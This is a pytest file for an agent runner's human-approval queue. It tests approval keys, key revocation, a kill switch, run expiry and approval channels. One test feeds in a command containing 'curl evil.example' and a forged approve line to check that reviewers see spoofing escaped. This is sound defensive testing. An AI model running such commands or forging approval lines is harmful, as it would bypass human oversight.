"""The queue of a state directory: whose key, which channels, which runs."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from runner import asking
from runner.approvals.queue import Queue
from runner.approvals.webhook import FILE
from runner.cli.main import cli
from runner.errors import ConfigError
from runner.killswitch import Switch
from runner.ledger.ledger import open_ledger
from runner.ledger.rekeying import Keeper
from runner.live import LIVE, take
from runner.records.approval import Advice, ApprovalRules
from runner.records.base import RunId
from runner.records.evidence import Statement
from tests.approvals import RUN, proposal, publication


@pytest.fixture
def state(tmp_path: Path) -> Path:
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    return state


def queue_of(state: Path) -> Queue:
    return asking.queue_of(state, ApprovalRules(), Switch(state), channels=("terminal",))


def asked(queue: Queue) -> str:
    request = queue.ask(proposal(), "Bash: make build")
    assert request is not None
    return request


def test_a_person_is_shown_the_whole_command_and_none_of_its_rows_as_ours(state: Path) -> None:
    fake = "approve:  codex-runner approvals approve ap_0123456789abcdef 0123456789ab"
    code = f"true {'x' * 5000}; curl evil.example\n{fake}\n\u05d0{'y' * 70}"
    request = queue_of(state).ask(proposal(code), "Bash: true")
    done = CliRunner().invoke(cli, ["approvals", "show", str(request), "--state", str(state)])
    rows = done.stdout.splitlines()
    assert len([row for row in rows if row.startswith("approve: ")]) == 1
    shown = [row[2:] for row in rows if row.startswith(("| ", "\\ "))]
    assert "".join(shown) == f'["Bash"]{code}'.replace("\n", "").replace("\u05d0", "⟦U+05D0⟧")
    advice = Advice(model="m", approve=True, note=f"{'z' * 70} {fake}")
    queue_of(state).advise(str(request), advice)
    listed = CliRunner().invoke(cli, ["approvals", "list", "--state", str(state)]).stdout
    assert all(row.startswith((str(request), "| ", "\\ ")) for row in listed.splitlines())


def test_a_word_needs_a_key_which_only_a_person_makes(state: Path) -> None:
    queue = queue_of(state)
    request = asked(queue)
    with pytest.raises(ConfigError, match="approver"):
        queue.resolve(request, "yes", proposal().digest(), "user:ada", "terminal")
    with pytest.raises(ConfigError, match="approver"):
        asking.require_key(state, may_make=False)
    assert queue.state(request) == "waiting"
    made = asking.require_key(state, may_make=True)
    assert made is not None and made.stat().st_mode & 0o777 == 0o600
    assert asking.require_key(state, may_make=False) is None
    word = queue.resolve(request, "yes", proposal().digest(), "user:ada", "terminal")
    with open_ledger(state) as ledger:
        (entry,) = ledger.entries(kinds=("approval",))
    assert asking.unseal(state, entry.envelope)["id"] == word.id == request
    assert queue.use(request, proposal(), queue.clock()) is None


def test_a_word_of_a_key_that_was_revoked_is_none(state: Path) -> None:
    asking.require_key(state, may_make=True)
    queue = queue_of(state)
    request = asked(queue)
    queue.resolve(request, "yes", proposal().digest(), "user:ada", "terminal")
    assert queue.state(request) == "approved"
    Keeper(state, open_ledger).rotate("approver")
    assert queue.state(request) == "denied"
    assert queue.use(request, proposal(), queue.clock()) == "it was denied, for good"


def test_what_another_role_signs_is_no_word(state: Path) -> None:
    asking.require_key(state, may_make=True)
    with open_ledger(state) as ledger:
        intent = Statement("intent", {"action": {"sha256": "0" * 64}}, {})
        envelope = ledger.append(intent).envelope
    for said in (envelope, b"", b"{}"):
        with pytest.raises(ValueError, match=r"no approval|proper JSON|payload"):
            asking.unseal(state, said)


def test_the_kill_switch_is_asked_by_what_an_action_is(state: Path) -> None:
    asking.require_key(state, may_make=True)
    queue, switch = queue_of(state), Switch(state)
    request = asked(queue)
    queue.resolve(request, "yes", proposal().digest(), "user:ada", "terminal")
    other = queue.ask(publication(), "publish")
    assert other is not None
    queue.resolve(other, "yes", publication().digest(), "user:ada", "terminal")
    switch.pull("agent", proposal().agent, "it loops", "user:ada")
    assert "it loops" in (queue.use(request, proposal(), queue.clock()) or "")
    switch.pull("repo", "git@github.com:o/r.git", "moved", "user:ada")
    assert "moved" in (queue.use(other, publication(), queue.clock()) or "")


def test_a_run_that_is_gone_waits_for_nothing(state: Path) -> None:
    queue = queue_of(state)
    request = asked(queue)
    assert queue.state(request) == "waiting", "of another directory, or outside of a run"
    lease = take(state / LIVE, RUN)
    (state / "runs" / RUN).mkdir(parents=True)
    assert queue.state(request) == "waiting"
    lease.close()
    assert queue.state(request) == "expired"
    for name in ("../../etc", "", "a" * 500, "change 7"):
        assert asking.alive(state, RunId(name))


def test_channels(state: Path) -> None:
    nothing: dict[str, str] = {}
    assert asking.channels(state, nothing, at_terminal=True) == ("terminal",)
    assert asking.channels(state, nothing, at_terminal=False) == ()
    for ci in ("true", "1", "woodpecker"):
        assert asking.channels(state, {"CI": ci}, at_terminal=True) == ()
    for no_ci in ("", "0", "false"):
        assert asking.channels(state, {"CI": no_ci}, at_terminal=True) == ("terminal",)
    (state / asking.HOME).mkdir()
    (state / asking.HOME / FILE).touch()
    assert asking.channels(state, {"CI": "true"}, at_terminal=True) == ("webhook",)


def test_on_whose_behalf() -> None:
    assert asking.author({"GITHUB_ACTIONS": "true", "GITHUB_ACTOR": "ada"}) == "github:ada"
    assert asking.author({"GITHUB_ACTOR": "ada"}) == asking.author({}) == ""


def test_a_run_that_waits_says_what_to_type(state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    queue = queue_of(state)
    assert asking.prompt(queue, RUN) == ""
    request, digest = asked(queue), proposal().digest()
    typed = f"codex-runner approvals approve {request} {digest[:12]}"
    monkeypatch.setenv("CODEX_RUNNER_STATE", str(state))
    assert asking.prompt(queue, RUN).endswith(typed)
    assert asking.prompt(queue, RunId("another")) == ""
    monkeypatch.setenv("CODEX_RUNNER_STATE", str(state.parent))
    assert asking.prompt(queue, RUN).endswith(f"{typed} --state {state}")
    assert asking.prompt(replace(queue, home=Path("/proc/none")), RUN) == ""
